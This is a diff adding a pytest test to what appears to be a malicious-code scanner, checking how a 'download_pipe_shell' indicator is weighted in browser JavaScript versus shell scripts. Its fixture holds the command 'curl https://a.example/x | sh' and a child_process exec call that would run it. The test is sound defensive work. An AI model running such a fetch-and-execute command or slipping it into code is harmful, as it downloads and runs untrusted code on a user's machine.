@@ -5,6 +5,7 @@ import pytest
 from features.code.analysed_file import AnalysedFile
 from features.code.contract import CodeLocation, FileAnalysis
 from features.code.evidence import (
+    BROWSER_FACTOR,
     KNOWN_FACTOR,
     MAX_EVIDENCE,
     RUNS_FACTOR,
@@ -33,6 +34,24 @@ def scanned(path: str = "a.py", section: str = "rest", *, known: bool = False) -
 
 def top_weight(file: AnalysedFile) -> float:
     return rank_candidates(find_candidates([file]))[0].weight
+
+
+def browser_file(code: bytes, path: str = "web/app.js", section: str = "text") -> AnalysedFile:
+    member = Member(path, len(code), FileType.TEXT, Role.REST, data=code, head=code)
+    return AnalysedFile(member, section, b"", b"", scan_text(code))
+
+
+SHELL_WORDS = b"var help='curl https://a.example/x | sh';"
+
+
+def test_command_lines_in_javascript_of_a_browser_are_only_words() -> None:
+    beyond = browser_file(SHELL_WORDS + b"\n" * 40 + b"require('child_process').exec(help)")
+    alone = [c.weight for c in find_candidates([browser_file(SHELL_WORDS)]) if c.indicator == "download_pipe_shell"]
+    started = [c.weight for c in find_candidates([beyond]) if c.indicator == "download_pipe_shell"]
+    script = [
+        c.weight for c in find_candidates([browser_file(SHELL_WORDS, "a.sh")]) if c.indicator == "download_pipe_shell"
+    ]
+    assert alone == [started[0] * BROWSER_FACTOR] == [script[0] * BROWSER_FACTOR]
 
 
 def test_a_line_keeps_its_heaviest_candidate_and_gains_a_quarter_of_the_others() -> None:
